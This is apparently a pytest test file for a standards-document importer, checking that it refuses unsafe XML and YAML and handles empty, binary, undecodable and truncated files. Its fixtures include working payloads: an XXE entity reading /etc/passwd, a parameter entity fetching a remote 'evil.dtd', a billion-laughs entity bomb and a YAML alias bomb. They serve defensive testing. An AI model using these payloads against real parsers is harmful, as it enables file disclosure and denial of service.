"""Bad input: unsafe XML, empty, binary, undecodable and truncated files."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest

from importers import detect_format, read_file
from importers.errors import UnreadableFileError
from tests.importers.helpers import data, read

XXE = """<?xml version="1.0"?>
<!DOCTYPE bibdata [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<bibdata type="standard"><docidentifier primary="true">&xxe;</docidentifier></bibdata>
"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<bibdata><docidentifier primary="true">GB &lol3;</docidentifier></bibdata>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE standard [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<standard><front><iso-meta><std-ref type="dated">ISO 1:2000</std-ref></iso-meta></front></standard>
"""


def _assert_one_line(error: UnreadableFileError, name: str) -> str:
    message = str(error)
    assert "\n" not in message
    assert message.startswith(f"{name}: ")
    return message


@pytest.mark.parametrize(
    ("text", "fmt"),
    [
        (XXE, None),
        (XXE, "relaton-xml"),
        (BILLION_LAUGHS, None),
        (BILLION_LAUGHS, "sts-xml"),
        (PARAMETER_ENTITY, None),
        (
            "<!DOCTYPE html [<!ENTITY x 'y'>]><html><title>全国标准信息公共服务平台</title></html>",
            "samr-html",
        ),
    ],
)
def test_entity_declarations_are_refused(text: str, fmt: str | None, tmp_path: Path) -> None:
    path = tmp_path / "evil.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UnreadableFileError) as refused:
        read(path, fmt=fmt)
    message = _assert_one_line(refused.value, "evil.xml")
    assert "declares an XML entity" in message


def test_empty_and_blank_files(tmp_path: Path) -> None:
    for name, content in (("empty.csv", b""), ("blank.xml", b"  \n\t\n")):
        path = tmp_path / name
        path.write_bytes(content)
        for call in (lambda p: detect_format(p), lambda p: read_file(p, "csv")):
            with pytest.raises(UnreadableFileError) as refused:
                call(path)
            assert "empty file" in _assert_one_line(refused.value, name)


def test_binary_garbage(tmp_path: Path) -> None:
    path = tmp_path / "garbage.csv"
    path.write_bytes(bytes(range(256)) * 8)
    with pytest.raises(UnreadableFileError) as refused:
        read_file(path)
    assert "binary data" in _assert_one_line(refused.value, "garbage.csv")
    with pytest.raises(UnreadableFileError):
        read_file(path, "csv")


def test_undecodable_text(tmp_path: Path) -> None:
    path = tmp_path / "mojibake.csv"
    path.write_bytes("标准号,名称\nGB 1-2000,".encode() + b"\x81\x30\xff\xfe\x80\n")
    with pytest.raises(UnreadableFileError) as refused:
        read_file(path, "csv")
    assert "not UTF-8 or GB18030/GBK text" in _assert_one_line(refused.value, "mojibake.csv")


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(UnreadableFileError) as refused:
        read_file(tmp_path / "nowhere.csv")
    assert _assert_one_line(refused.value, "nowhere.csv").endswith("no such file")


def test_xml_cut_in_the_middle_of_a_tag(tmp_path: Path) -> None:
    text = data("relaton-foreign/cen_CEN-ISO-TS-21003-7.xml").read_text(encoding="utf-8")
    path = tmp_path / "cut.xml"
    path.write_text(text[: text.index("<docidentifier") + 8], encoding="utf-8")
    with pytest.raises(UnreadableFileError) as refused:
        read_file(path)
    message = _assert_one_line(refused.value, "cut.xml")
    assert "XML is not well-formed" in message and "truncated" in message


def test_gzip_cut_short(tmp_path: Path) -> None:
    packed = gzip.compress(data("relaton-data-iso/iso_sample_2000.jsonl").read_bytes())
    path = tmp_path / "cut.jsonl.gz"
    path.write_bytes(packed[: len(packed) // 2])
    reading = read_file(path)
    assert reading.format == "relaton-compact"
    with pytest.raises(UnreadableFileError) as refused:
        for _ in reading:
            pass
    assert "gzip data is truncated" in _assert_one_line(refused.value, "cut.jsonl.gz")
    with pytest.raises(UnreadableFileError):
        read_file(path, "relaton-xml")


def test_half_a_json_line_at_the_end(tmp_path: Path) -> None:
    lines = data("relaton-data-jis/jis_sample_2000.jsonl").read_text(encoding="utf-8")
    path = tmp_path / "cut.jsonl"
    path.write_text(lines[: lines.index("\n", 5000) + 40], encoding="utf-8")
    outcomes = []
    with pytest.raises(UnreadableFileError) as refused:
        for outcome in read_file(path):
            outcomes.append(outcome)
    assert all(o.record is not None for o in outcomes) and len(outcomes) > 5
    message = _assert_one_line(refused.value, "cut.jsonl")
    assert f"line {len(outcomes) + 1} is cut short" in message


def test_a_broken_json_line_in_the_middle_is_one_rejection(tmp_path: Path) -> None:
    lines = data("relaton-data-jis/jis_sample_2000.jsonl").read_text(encoding="utf-8").splitlines()
    lines[2] = lines[2][:30]
    path = tmp_path / "damaged.jsonl"
    path.write_text("\n".join(lines[:10]) + "\n", encoding="utf-8")
    result = read(path)
    assert len(result.records) == 9
    [bad] = result.rejected
    assert bad.location == "damaged.jsonl:line 3"
    assert (bad.reason or "").startswith("line 3 is not valid JSON")


def test_yaml_aliases_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "bomb.yaml"
    path.write_text(
        "a: &a [x, x, x]\nb: &b [*a, *a, *a]\ndocid: {id: ISO 1:2000, primary: true}\n",
        encoding="utf-8",
    )
    with pytest.raises(UnreadableFileError) as refused:
        read_file(path, "relaton-yaml")
    assert "aliases" in _assert_one_line(refused.value, "bomb.yaml")


def test_a_truncated_json_document(tmp_path: Path) -> None:
    text = data("relaton-gb/json/stdsamr_search_JBT13368-2018.json").read_text(encoding="utf-8")
    path = tmp_path / "cut.json"
    path.write_text(text[: len(text) // 2], encoding="utf-8")
    with pytest.raises(UnreadableFileError) as refused:
        read_file(path)
    assert "JSON is not well-formed" in _assert_one_line(refused.value, "cut.json")


def test_gzip_cut_before_any_data(tmp_path: Path) -> None:
    packed = gzip.compress(data("relaton-data-jis/jis_sample_2000.jsonl").read_bytes())
    path = tmp_path / "stub.jsonl.gz"
    path.write_bytes(packed[:15])
    with pytest.raises(UnreadableFileError) as refused:
        detect_format(path)
    assert "gzip data is truncated" in _assert_one_line(refused.value, "stub.jsonl.gz")


@pytest.mark.parametrize("fmt", ["relaton-compact", "iso-open-data", "samr-json", "sts-xml"])
def test_an_empty_file_with_an_explicit_format(fmt: str, tmp_path: Path) -> None:
    path = tmp_path / "nothing.jsonl"
    path.write_bytes(b"\n")
    with pytest.raises(UnreadableFileError) as refused:
        list(read_file(path, fmt))
    assert "empty file" in _assert_one_line(refused.value, "nothing.jsonl")
